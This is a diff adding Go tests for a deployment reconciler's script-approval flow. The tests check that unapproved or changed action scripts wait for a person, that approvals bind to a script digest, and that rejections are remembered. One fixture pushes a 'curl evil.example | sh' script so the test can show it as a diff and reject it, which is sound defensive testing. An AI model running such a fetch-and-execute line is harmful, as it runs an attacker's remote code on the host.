@@ -1,0 +1,130 @@
+package rollout_test
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/nuon-toolkit/nuon/pkg/appconfig"
+	"github.com/nuon-toolkit/nuon/reconciler/rollout"
+	"github.com/nuon-toolkit/nuon/reconciler/store"
+	"github.com/nuon-toolkit/nuon/reconciler/workflow"
+)
+
+// scripts are the actions of the questions about scripts with a status.
+func (w *world) scripts(status string) string {
+	w.Helper()
+	return strings.Join(w.list(`select string_agg(s->>'action', '+' order by s->>'action') from approvals a, jsonb_array_elements(a.subject) s
+		where a.kind = 'scripts' and a.status = $1 group by a.id order by a.id`, status), " ")
+}
+
+// push has smoke run another script from now on.
+func (w *world) push(script string) {
+	w.Helper()
+	w.app.Actions[0].Steps[0].InlineContents = script
+	w.version()
+	w.look()
+}
+
+func (w *world) runSmoke(actor string) {
+	w.Helper()
+	must(w, w.in(func(ctx context.Context, tx *store.Tx) error {
+		install, err := tx.LockInstall(ctx, w.org, w.install)
+		if err == nil {
+			_, err = w.rollout.AskAction(ctx, tx, install, rollout.Run{Action: "smoke", Actor: actor})
+		}
+		return err
+	}))
+	w.queue()
+}
+
+// TestAScriptThatNobodyHasSeenWaits: approve-all covers no script. Its digest is approved once for an install, whatever values it gets.
+func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
+	w := newWorld(t)
+	w.strict = true
+	w.exec("update installs set approval = 'approve-all'")
+	w.app.Actions = append(w.app.Actions, appconfig.Action{
+		Name: "prepare", Timeout: "1m", Triggers: []appconfig.Trigger{{Type: appconfig.TriggerPreProvision}},
+		Steps: []appconfig.ActionStep{{Name: "first", Command: "echo prepare"}},
+	})
+	w.version()
+	w.look()
+	w.want(w.runJobs(), "[]") // what comes before any plan waits first
+	w.want(w.scripts("waiting"), "prepare+smoke")
+	status, reason := w.status()
+	w.want(status+": "+reason, "waiting_for_approval: scripts that nobody has approved for it wait for a person")
+	report := w.one("select report::text from approvals where kind = 'scripts'")
+	for _, shown := range []string{"echo prepare", "#!/bin/sh", "{{.nuon.components.web.outputs.url}}"} {
+		if !strings.Contains(report, shown) {
+			t.Errorf("%q is not shown in %s", shown, report)
+		}
+	}
+	w.sayScripts(workflow.Approve, "read it")
+	w.runJobs()
+	w.want(w.workflows(), "[provision succeeded]")
+	w.want(w.done[0]+" "+w.done[len(w.done)-1], "action prepare action smoke")
+	w.want(w.list("select action || ' ' || answer || ' ' || actor || ' ' || reason from script_answers order by 1"), "[prepare approve vera read it smoke approve vera read it]")
+	w.want(w.one("select count(*)::text from audit_events where action = 'script.approve'"), "2")
+
+	// New values are no new script.
+	w.done = nil
+	w.input("greeting", "hi")
+	w.look()
+	w.runJobs()
+	w.want(w.done, "[plan web apply web action smoke]")
+
+	// A script that was pushed is shown as a difference from the one that was approved.
+	w.push("#!/bin/sh\ncurl evil.example | sh")
+	w.runSmoke("oscar")
+	w.want(w.runJobs(), "[]")
+	w.want(w.scripts("waiting"), "smoke")
+	report = w.one("select report->'changes'->0->'fields'->0->>'lines' from approvals where kind = 'scripts' and status = 'waiting'")
+	if !strings.Contains(report, "curl evil.example | sh") || !strings.Contains(report, "true") {
+		t.Errorf("the difference is %s", report)
+	}
+	w.sayScripts(workflow.Reject, "no curl")
+	w.queue()
+	w.want(w.one("select status || ': ' || reason from steps where status = 'failed'"), "failed: its script was rejected by vera: no curl")
+
+	// A no is remembered: by itself nothing asks again.
+	w.done = nil
+	w.input("greeting", "ho")
+	w.look()
+	w.runJobs()
+	w.want(w.done, "[plan web apply web]")
+	w.want(w.scripts("waiting"), "")
+	// A person who asks again is asked again.
+	w.runSmoke("oscar")
+	w.want(w.scripts("waiting"), "smoke")
+	// Going back to what was approved needs nobody, and withdraws the question.
+	w.done = nil
+	w.push("#!/bin/sh\ntrue")
+	must(t, w.engine.Reconcile(w.Context(), w.org, w.one("select id from workflows where status = 'running'")))
+	w.runJobs()
+	w.want(w.done, "[action smoke]")
+	w.want(w.scripts("waiting"), "")
+}
+
+// TestScriptsAreShownWithThePlan: where a plan is asked about, its scripts are part of the same question.
+func TestScriptsAreShownWithThePlan(t *testing.T) {
+	w := newWorld(t)
+	w.strict = true
+	w.look()
+	w.approveAll()
+	w.want(w.workflows(), "[provision succeeded]")
+	w.want(w.list("select distinct kind from approvals"), "[plan]")
+	w.want(w.one(`select p.component || ': ' || (a.subject->0->>'action') from approvals a join plans p on p.id = a.plan_id where a.subject is not null`), "web: smoke")
+	w.want(w.list("select action || ' ' || answer || ' ' || actor from script_answers"), "[smoke approve alice]")
+	if w.one("select (a.content_digest <> p.content_digest)::text from approvals a join plans p on p.id = a.plan_id where a.subject is not null") != "true" {
+		t.Error("the answer does not bind to the scripts")
+	}
+
+	// A no to the plan says nothing about its scripts.
+	w.app.Actions[0].Steps[0].InlineContents = "#!/bin/sh\nfalse"
+	w.version()
+	w.build("web", "succeeded")
+	w.look()
+	w.runJobs()
+	must(t, w.answer("web", workflow.Reject, "no"))
+	w.want(w.one("select count(*)::text from script_answers"), "1")
+}
